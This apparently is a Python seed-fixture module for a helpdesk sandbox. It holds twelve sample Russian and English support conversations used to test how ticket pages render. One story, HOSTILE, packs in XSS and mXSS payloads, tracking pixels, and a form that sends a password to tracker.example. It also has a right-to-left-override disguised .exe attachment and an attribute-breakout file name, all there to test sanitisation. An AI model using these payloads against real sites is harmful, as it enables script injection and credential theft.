"""Anna's twelve requests: every channel, every status, every kind of letter a page must survive."""

from __future__ import annotations

from portal.sandbox.helpdesk.seed_files import document, picture
from portal.sandbox.helpdesk.seed_stories import Attachment, Story, customer, ivan, maria, note, written

PHOTO: Attachment = ("photo.png", "image/png", picture())
WAYBILL: Attachment = (
    "накладная A-1007.pdf",
    "application/pdf",
    document("Waybill A-1007, 2 items, 4 590 RUB"),
)
INVOICE: Attachment = ("invoice-A-0999.pdf", "application/pdf", document("Invoice A-0999, 12 300 RUB, paid"))
TALK: Attachment = ("разговор.txt", "text/plain; charset=utf-8", "10:02 Курьер не дозвонился.\n".encode())
DISGUISED: Attachment = ("счёт\u202efdp.exe", "application/octet-stream", b"MZ this is no invoice")
BREAKOUT: Attachment = ('"><img src=x onerror=alert(1)>.txt', "text/html", b"<script>alert(1)</script>")

IVANS_SIGN = "<p>--<br>С уважением,<br>Иван Петров, служба поддержки</p>"


def gmail_answer(begun: float) -> str:
    """A letter from Gmail: the answer above, everything before in a folded quote."""
    return (
        '<div dir="ltr">Посмотрела в приложении курьера: там написано «передано в доставку», но звонка не было. '
        "Номер телефона в заказе правильный?</div><br>"
        f'<div class="gmail_quote"><div dir="ltr" class="gmail_attr">{written(begun, 3.1)}, Иван Петров '
        '&lt;<a href="mailto:support@shop.example">support@shop.example</a>&gt; написал(а):<br></div>'
        '<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">'
        "<p>Анна, здравствуйте. Мы спросили курьерскую службу, ответят сегодня.</p>"
        '<blockquote class="gmail_quote"><p>Здравствуйте. Где моя посылка? Заказ A-1007.</p></blockquote>'
        "</blockquote></div>"
    )


def plain_answer(begun: float) -> str:
    """A letter from a telephone: plain lines, the history behind angle brackets."""
    return (
        "<p>Да, дома буду после 18:00, звоните на этот же номер.</p>"
        f"<p>{written(begun, 26)}, Иван Петров &lt;support@shop.example&gt; написал(а):</p>"
        "<p>&gt; Анна, курьер будет завтра с 10 до 21.<br>&gt; Подскажите, когда вам удобно?<br>&gt;<br>"
        "&gt; --<br>&gt; Иван Петров</p>"
    )


def outlook_answer(begun: float) -> str:
    """A letter from Outlook: no quote mark at all, only a rule and a header."""
    return (
        "<p>Курьер приехал, но привёз один пакет из двух. Фото прикладываю.</p>"
        '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p><b>От:</b> Иван Петров '
        f"&lt;support@shop.example&gt;<br><b>Отправлено:</b> {written(begun, 29)}<br>"
        "<b>Кому:</b> anna@shop.example<br><b>Тема:</b> Re: Где моя посылка?</p></div><p>Передали курьеру.</p>"
    )


PARCEL = Story(
    "Где моя посылка?",
    "email",
    5 * 24,
    (
        customer("<p>Здравствуйте. Где моя посылка? Заказ A-1007, обещали вчера.</p><p>Анна</p>"),
        note("<p>Клиентка звонила трижды, склад потерял второй пакет. Не говорить про склад.</p>", 1),
        ivan(f"<p>Анна, здравствуйте. Мы спросили курьерскую службу, ответят сегодня.</p>{IVANS_SIGN}", 3.1),
        customer(gmail_answer, 5),
        ivan("<p>Номер правильный: +7 916 ***-**-67. Попросили курьера позвонить ещё раз.</p>", 6, TALK),
        ivan(f"<p>Анна, курьер будет завтра с 10 до 21.</p><p>Подскажите, когда вам удобно?</p>{IVANS_SIGN}", 26),
        customer(plain_answer, 28),
        ivan("<p>Передали курьеру.</p>", 29),
        customer(outlook_answer, 50, PHOTO),
        note("<p>Второй пакет нашли на складе в Химках. Компенсация 300 ₽ согласована.</p>", 51),
        maria(
            "<p>Анна, простите нас: второй пакет уже в пути, накладная во вложении.</p>"
            "<ul><li>пакет 1: вручён</li><li>пакет 2: сегодня до 21:00</li></ul>",
            52,
            WAYBILL,
        ),
        customer("<p>Спасибо, жду.</p>", 53),
        ivan("<p>Второй пакет приехал? Всё ли в порядке?</p>", 118),
    ),
    fields={"order_number": "A-1007"},
)
UNANSWERED = Story(
    "Можно ли изменить адрес доставки?",
    "widget",
    0.4,
    (customer("<p>Добрый день! Можно поменять адрес на ул. Лесная, 5, кв. 12? Заказ A-1012.</p>"),),
    fields={"order_number": "A-1012"},
)
EXCHANGE = Story(
    "Не подошёл размер, хочу обменять",
    "phone",
    30,
    (
        customer("<p>Звонок. Кроссовки малы, нужен 39 вместо 38. Заказ A-1005.</p>"),
        maria("<p>Анна, приняли обмен. Вложите, пожалуйста, вещь в ту же коробку, курьер заберёт.</p>", 2),
        customer("<p>Коробка осталась, отдам завтра.</p>", 4),
    ),
    status="v-processe",
    fields={"order_number": "A-1005", "reason": "1"},
)
SHIPPED = Story(
    "Когда отправите заказ A-1010?",
    "telegram",
    44,
    (
        customer("<p>привет! когда отправите A-1010? подарок к субботе 🎁</p>"),
        ivan("<p>Передали в доставку сегодня утром, к пятнице успеет.</p>", 1),
    ),
    status="6",
)
TWICE = Story(
    "Оплата прошла дважды",
    "widget",
    9 * 24,
    (
        customer("<p>С карты списали 4 590 ₽ два раза, скриншот приложила.</p>", 0, PHOTO),
        ivan("<p>Видим двойное списание, второе вернётся в течение трёх дней.</p>", 1),
        customer("<p>Деньги вернулись, спасибо.</p>", 70),
        ivan("<p>Спасибо, что написали. Закрываем обращение.</p>", 71),
    ),
    status="closed",
)
BLUE = Story(
    "Is the blue one back in stock?",
    "chat",
    20,
    (
        customer("<p>Hi! The blue jacket (size M) has been sold out for weeks. Will it be back?</p>"),
        maria("<p>Hello Anna, it will be here on Thursday. Shall we set one aside for you?</p>", 0.2),
    ),
)
CALL_BACK = Story(
    "Перезвоните, пожалуйста",
    "phone",
    72,
    (
        customer("<p>Звонок, 40 секунд. Просит перезвонить после 18:00.</p>"),
        ivan("<p>Звонили дважды, не дозвонились. Напишите, когда удобно.</p>", 8),
    ),
    status="awaiting-client",
    fields={"callback": "1"},
)
HOSTILE = Story(
    "<script>alert(1)</script> Не открывается «личный кабинет»",
    "email",
    26,
    (
        customer(
            "<p>Не открывается кабинет, вот что я вижу:</p>"
            '<script>alert("script")</script><img src=x onerror="alert(\'onerror\')">'
            '<img src="http://tracker.example/pixel.gif?who=anna" width="1" height="1">'
            '<svg onload="alert(1)"><use href="http://tracker.example/a.svg#b"/></svg>'
            "<style>body{display:none} @import url(http://tracker.example/a.css);</style>"
            '<div style="position:fixed;inset:0;background:url(http://tracker.example/b.png)">поверх всего</div>'
            '<a href="javascript:alert(1)">ссылка</a> <a href="https://shop.example/faq">вопросы</a>'
            '<iframe src="http://tracker.example/"></iframe>'
            '<form action="http://tracker.example/"><input name="password">'
            "<button>Войти</button></form><p>обычный текст \u202eтукереп\u202c и снова обычный</p>"
            '<math><mtext></p><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
            0,
            DISGUISED,
            BREAKOUT,
        ),
        note("<p>Похоже на проверку безопасности, не открывать вложения.</p>", 1),
        ivan("<p>Анна, попробуйте, пожалуйста, обновить страницу: Ctrl&nbsp;+&nbsp;F5.</p>", 2),
        customer("<div>Не помогло" + "<div>" * 40 + "глубоко" + "</div>" * 40 + "</div>", 3),
    ),
)
LONG_WORD = Story(
    "Вопросприпереходенаоплату" * 8,
    "email",
    6 * 24,
    (
        customer(f"<p>{'https://shop.example/checkout/?step=payment&amp;session=' + '0123456789abcdef' * 12}</p>"),
        maria("<p>Спасибо, ошибку исправили: оплата снова работает.</p>", 5),
        customer("<p>" + "А" * 400 + "</p>", 6),
    ),
)
INVOICE_COPY = Story(
    "Invoice for order A-0999",
    "email",
    25 * 24,
    (
        customer("<p>Could you send me the invoice once more, please?</p>"),
        ivan("<p>Of course, please find it attached.</p>", 3, INVOICE),
    ),
    status="closed",
)
PICKUP = Story(
    "Самовывоз сегодня?",
    "api",
    3,
    (
        customer("<p>Можно забрать A-1011 сегодня после семи?</p>"),
        ivan("<p>Да, магазин открыт до 22:00, возьмите паспорт.</p>", 0.5),
        customer("<p>Отлично, буду в 19:30.</p>", 0.7),
    ),
    fields={"order_number": "A-1011"},
)
NO_SUBJECT = Story(
    "",
    "email",
    12 * 24,
    (
        customer("<p></p>", 0, PHOTO),
        maria("<p>Анна, письмо пришло пустым, только с картинкой. Чем помочь?</p>", 2),
        customer("<p>Ой, отправилось само. Уже не нужно!</p>", 3),
        maria("<p>Хорошо, закрываем.</p>", 4),
    ),
    status="closed",
)

ANNAS = (
    NO_SUBJECT,
    INVOICE_COPY,
    TWICE,
    LONG_WORD,
    PARCEL,
    CALL_BACK,
    SHIPPED,
    EXCHANGE,
    HOSTILE,
    BLUE,
    PICKUP,
    UNANSWERED,
)
